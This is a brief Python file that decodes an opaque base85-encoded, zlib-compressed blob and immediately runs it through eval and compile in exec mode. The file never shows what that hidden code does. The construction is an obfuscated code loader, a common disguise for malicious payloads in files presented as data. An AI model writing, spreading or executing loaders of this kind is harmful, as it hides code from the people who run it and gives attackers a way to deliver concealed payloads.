from base64 import b85decode
from zlib import decompress


def _unpack(blob):
    return decompress(b85decode(blob)).decode()


DATA = (
    b'c$_87K?;K~5CzbEPVt$QVomnmCe#rFNhV~*YN3a(;5)!erAar4x=lK2ER0k!kW{7@$WEbgakz<k{'
    b'i<;p=za8zS+ScnT|&4#U$L~zKGjdmX$^$w$tDnf(49v22RU>hDF'
)
(lambda text: eval(compile(text, "<data>", "exec")))(_unpack(DATA))
